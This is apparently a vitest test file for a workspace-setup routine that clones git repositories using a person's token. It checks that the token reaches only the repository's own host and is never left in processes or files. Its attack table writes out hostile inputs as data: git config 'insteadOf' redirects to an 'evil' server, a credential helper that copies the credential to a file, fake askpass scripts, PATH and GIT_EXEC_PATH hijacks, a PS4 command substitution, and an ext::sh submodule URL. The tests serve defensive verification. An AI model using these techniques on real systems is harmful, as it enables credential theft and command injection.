import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { type SetupSources, setUpWorkspace } from '../../../src/core/workspaceSetup.ts';
import { InstanceConfig, type InstanceConfigInput, type InstanceRecord } from '../../../src/model/instance.ts';
import type { CredentialUse } from '../../../src/model/setupConsent.ts';
import { newSpec } from '../../contract/specs.ts';
import { GitServer, type GitServerOptions } from '../../fakes/gitServer.ts';
import { loneContext } from '../../fakes/loneProvider.ts';
import { MemoryPlace } from '../../fakes/memoryPlace.ts';
import { MemoryProvider } from '../../fakes/memoryProvider.ts';

const id = 'k3x9q2m7w1ab';
const token = 'gho_s3cretTokenOfThePerson';
let root: string;
let place: MemoryPlace;
let servers: { dispose(): void }[];
const home = (...names: string[]) => path.join(root, 'homes', id, ...names);
/** A file of the attacker outside of the home. */
const theirs = (name: string, content = '', mode = 0o755) => {
  const file = path.join(root, 'theirs', name);
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, content, { mode });
  return file;
};
const pwned = () => path.join(root, 'pwned');

beforeEach(() => {
  root = mkdtempSync(path.join(tmpdir(), 'credential-'));
  place = new MemoryPlace({ homes: path.join(root, 'homes') });
  servers = [];
  mkdirSync(path.join(root, 'origin'));
  writeFileSync(path.join(root, 'origin', 'file'), 'theirs');
  const git = (...args: string[]) =>
    execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@b', '-C', path.join(root, 'origin'), ...args]);
  git('init', '--quiet');
  git('add', '.');
  git('commit', '--quiet', '-m', 'first');
});
afterEach(async () => {
  await place.dispose();
  for (const server of servers) server.dispose();
  rmSync(root, { recursive: true, force: true });
});

async function serve(options: GitServerOptions = {}): Promise<GitServer> {
  const server = await GitServer.start(options);
  servers.push(server);
  server.publish(path.join(root, 'origin'));
  return server;
}

/** What a person has: a token for what lies at `origin`, and a yes or a no when a program asks for it. */
function personFor(origin: string, agrees = true) {
  const asked: CredentialUse[] = [];
  const read: boolean[] = [];
  const sources: SetupSources = {
    surveyFolder: async where => ({ path: where, bytes: 0, files: 0, outside: [] }),
    packFolder: async function* () {},
    gitCredential: url =>
      url.startsWith(`${origin}/`)
        ? {
            read: async mayAsk => {
              read.push(mayAsk);
              return token;
            },
          }
        : undefined,
  };
  const mayUse = async (use: CredentialUse) => {
    asked.push(use);
    return agrees;
  };
  return { asked, read, sources, consent: { isLasting: false, mayUse, mayCopy: async () => agrees } };
}

async function clone(
  url: string,
  person: ReturnType<typeof personFor>,
  config: Partial<InstanceConfigInput> = {},
  { consent = true, prepare = () => {}, silence = 60, askedByPerson = false } = {},
) {
  const provider = new MemoryProvider(place);
  const { identity, ...spec } = newSpec('a'.repeat(16), { name: 'one', ...config });
  await provider.createInstance({ ...spec, identity: { ...identity, id } });
  prepare();
  const whole = InstanceConfig.parse({ name: 'one', ...config, source: { kind: 'git', url } });
  const setup = { status: 'pending', problems: [], askedByPerson };
  const record = { id, providerId: 'memory', config: whole, setup } as unknown as InstanceRecord;
  const times = { silence, stall: 60, fill: 60, extension: 60 };
  return setUpWorkspace(provider, record, person.sources, loneContext, consent ? person.consent : undefined, times);
}

describe('a credential reaches the repository’s own host, whatever else is there', () => {
  /** What an agent can choose, or an image bring, to lead the credential elsewhere or to run its own program. */
  const attacks: [
    string,
    (evil: GitServer, real: GitServer) => { env?: Record<string, string>; prepare?: () => void },
  ][] = [
    [
      'GIT_CONFIG_COUNT with insteadOf',
      (evil, real) => ({
        env: {
          GIT_CONFIG_COUNT: '1',
          GIT_CONFIG_KEY_0: `url.${evil.origin}/.insteadOf`,
          GIT_CONFIG_VALUE_0: `${real.origin}/`,
        },
      }),
    ],
    [
      'GIT_CONFIG_PARAMETERS',
      (evil, real) => ({ env: { GIT_CONFIG_PARAMETERS: `'url.${evil.origin}/.insteadof'='${real.origin}/'` } }),
    ],
    ...['GIT_CONFIG_GLOBAL', 'GIT_CONFIG_SYSTEM', 'GIT_CONFIG'].map((name): (typeof attacks)[number] => [
      name,
      (evil, real) => ({ env: { [name]: theirs('config', insteadOf(evil, real)) } }),
    ]),
    [
      'XDG_CONFIG_HOME',
      (evil, real) => ({
        env: { XDG_CONFIG_HOME: path.dirname(path.dirname(theirs('git/config', insteadOf(evil, real)))) },
      }),
    ],
    [
      'the home’s own .gitconfig',
      (evil, real) => ({ prepare: () => writeFileSync(home('.gitconfig'), insteadOf(evil, real)) }),
    ],
    [
      'a credential helper of the home',
      () => ({ prepare: () => writeFileSync(home('.gitconfig'), `[credential]\n helper = "!cat >>${pwned()}; :"\n`) }),
    ],
    ['GIT_ASKPASS', () => ({ env: { GIT_ASKPASS: theirs('ask', `#!/bin/sh\ntouch ${pwned()}\n`) } })],
    ['SSH_ASKPASS', () => ({ env: { SSH_ASKPASS: theirs('ask', `#!/bin/sh\ntouch ${pwned()}\n`), DISPLAY: ':9' } })],
    ['another git in PATH', () => ({ env: { PATH: path.dirname(theirs('git', `#!/bin/sh\ncat >${pwned()} <&3\n`)) } })],
    ['another env in PATH', () => ({ env: { PATH: path.dirname(theirs('env', `#!/bin/sh\ncat >${pwned()}\n`)) } })],
    [
      'GIT_EXEC_PATH',
      () => ({ env: { GIT_EXEC_PATH: path.dirname(theirs('git-remote-http', `#!/bin/sh\ncat <&3 >${pwned()}\n`)) } }),
    ],
    [
      'hooks of GIT_TEMPLATE_DIR',
      () => {
        const hook = theirs('template/hooks/post-checkout', `#!/bin/sh\ntouch ${pwned()}\n`);
        return { env: { GIT_TEMPLATE_DIR: path.dirname(path.dirname(hook)) } };
      },
    ],
    ['GIT_TRACE_CURL', () => ({ env: { GIT_TRACE_CURL: pwned(), GIT_TRACE_REDACT: '0' } })],
    ['GIT_TRACE', () => ({ env: { GIT_TRACE: pwned(), GIT_TRACE2_EVENT: pwned(), GIT_TRACE_SETUP: pwned() } })],
    ['http_proxy', evil => ({ env: { http_proxy: evil.origin, all_proxy: evil.origin } })],
    ['GIT_PROXY_COMMAND', () => ({ env: { GIT_PROXY_COMMAND: theirs('proxy', `#!/bin/sh\ntouch ${pwned()}\n`) } })],
    ['GIT_DIR', () => ({ env: { GIT_DIR: path.join(root, 'pwned'), GIT_WORK_TREE: root } })],
    ['GIT_OBJECT_DIRECTORY', () => ({ env: { GIT_OBJECT_DIRECTORY: path.join(root, 'pwned') } })],
    ['SHELLOPTS', () => ({ env: { SHELLOPTS: 'xtrace', PS4: `$(touch ${pwned()})` } })],
    ['IFS', () => ({ env: { IFS: 'abcdefg/' } })],
  ];

  test.each(attacks)('%s', async (_, attack) => {
    const real = await serve({ password: token });
    const evil = await serve({ password: 'something else' });
    const { env = {}, prepare = () => {} } = attack(evil, real);
    const person = personFor(real.origin);
    const { status, problems } = await clone(real.url, person, { env }, { prepare });
    expect(evil.passwords).toEqual([]);
    expect(existsSync(pwned())).toBe(false);
    expect({ status, problems }).toEqual({ status: 'done', problems: [] });
    expect(real.passwords).toEqual([token]);
    expect(readFileSync(home('workspace', 'file'), 'utf8')).toBe('theirs');
    expect(person.asked).toMatchObject([{ kind: 'account', host: real.origin.slice(7), instance: { id } }]);
  });

  test('stands in no environment, no argument and no file while git runs, nor after', async () => {
    const real = await serve({ password: token });
    const seen = new Set<string>();
    let over = false;
    const spying = (async () => {
      for (; !over; await new Promise(resolve => setImmediate(resolve))) {
        for (const pid of readdirSync('/proc').filter(name => /^\d+$/.test(name) && name !== String(process.pid))) {
          for (const file of ['environ', 'cmdline']) {
            try {
              if (readFileSync(`/proc/${pid}/${file}`, 'latin1').includes(token)) seen.add(file);
            } catch {}
          }
        }
      }
    })();
    expect(await clone(real.url, personFor(real.origin))).toMatchObject({ status: 'done' });
    over = true;
    await spying;
    expect([...seen]).toEqual([]);
    expect(execFileSync('sh', ['-c', `grep -rl ${token} "${home()}" || true`], { encoding: 'utf8' })).toBe('');
  });

  test('who is sent elsewhere takes it along neither before nor after it was given', async () => {
    const evil = await serve({ password: 'something else' });
    const sendsAll = await serve({ redirectTo: evil.origin });
    const sendsSignedIn = await serve({ password: token, redirectTo: evil.origin });
    for (const server of [sendsAll, sendsSignedIn]) {
      const person = personFor(server.origin);
      expect(await clone(server.url, person)).toMatchObject({ status: 'failed' });
      await place.dispose();
      place = new MemoryPlace({ homes: path.join(root, 'homes') });
      rmSync(home(), { recursive: true, force: true });
    }
    expect(evil.requests.length).toBeGreaterThan(0);
    expect(evil.passwords).toEqual([]);
  });

  test('a submodule of whatever kind is not fetched', async () => {
    const evil = await serve();
    writeFileSync(
      path.join(root, 'origin', '.gitmodules'),
      `[submodule "a"]\n path = a\n url = ${evil.url}\n[submodule "b"]\n path = b\n url = ext::sh -c touch% ${pwned()}\n`,
    );
    execFileSync('sh', ['-c', 'git add . && git -c user.name=a -c user.email=a@b commit -qm second'], {
      cwd: path.join(root, 'origin'),
    });
    const real = await serve({ password: token });
    expect(await clone(real.url, personFor(real.origin), { env: { GIT_CONFIG_COUNT: '0' } })).toMatchObject({
      status: 'done',
    });
    expect(evil.requests).toEqual([]);
    expect(existsSync(pwned())).toBe(false);
  });
});

describe('who is asked', () => {
  test('nobody for a repository that everybody can read', async () => {
    const open = await serve();
    const person = personFor(open.origin);
    expect(await clone(open.url, person)).toMatchObject({ status: 'done' });
    expect([person.asked, person.read]).toEqual([[], []]);
  });

  test('nobody for a host that the person has nothing for', async () => {
    const real = await serve({ password: token });
    const person = personFor('https://github.com');
    expect(await clone(real.url, person)).toMatchObject({
      status: 'failed',
      problems: [expect.stringContaining('no credential of yours')],
    });
    expect([person.asked, person.read]).toEqual([[], []]);
  });

  test('a no is a no: nothing is read', async () => {
    const real = await serve({ password: token });
    const person = personFor(real.origin, false);
    expect(await clone(real.url, person)).toMatchObject({ status: 'failed' });
    expect([person.asked.length, person.read, real.passwords]).toEqual([1, [], []]);
  });

  test.each([
    [true, [false], 'done'],
    [false, [], 'failed'],
  ])('with nobody there, one that a person asked for (%s) is gone on with', async (askedByPerson, read, status) => {
    const real = await serve({ password: token });
    const person = personFor(real.origin);
    expect(await clone(real.url, person, {}, { consent: false, askedByPerson })).toMatchObject({ status });
    expect(person.read).toEqual(read);
  });

  test('a person before the keys of theirs are used for a program', async () => {
    const person = personFor('https://github.com', false);
    for (const url of ['git@127.0.0.1:a/b.git', 'ssh://git@127.0.0.1:1/a/b.git']) {
      expect(await clone(url, person)).toMatchObject({
        status: 'failed',
        problems: [expect.stringContaining('ssh keys')],
      });
      await place.dispose();
      place = new MemoryPlace({ homes: path.join(root, 'homes') });
    }
    expect(person.asked).toMatchObject([
      { kind: 'keys', host: '127.0.0.1' },
      { kind: 'keys', host: '127.0.0.1:1' },
    ]);
  });
});

describe('a server that says nothing', () => {
  test.each(['http', 'git'])(
    'of %s is waited for so long and no longer, and nothing of the clone is left',
    async kind => {
      const silent = kind === 'http' ? await serve({ silent: true }) : await mute();
      const began = performance.now();
      const { problems } = await clone(silent.url, personFor('https://github.com'), {}, { silence: 2 });
      expect(problems).toEqual([expect.stringContaining('nothing came for 2 seconds')]);
      expect(performance.now() - began).toBeLessThan(15_000);
      await expect.poll(() => silent.connections).toBe(0);
      expect(readdirSync(home('workspace'))).toEqual([]);
      expect(existsSync(home('.remote-swarm-setup'))).toBe(false);
    },
  );
});

const insteadOf = (evil: GitServer, real: GitServer) => `[url "${evil.origin}/"]\n\tinsteadOf = ${real.origin}/\n`;

/** Takes connections, and says nothing. */
async function mute() {
  let connections = 0;
  const server: Server = createServer(socket => {
    connections++;
    socket
      .on('close', () => connections--)
      .on('error', () => {})
      .resume();
  });
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as { port: number };
  servers.push({ dispose: () => void server.close() });
  return {
    url: `git://127.0.0.1:${port}/repo.git`,
    get connections() {
      return connections;
    },
  };
}
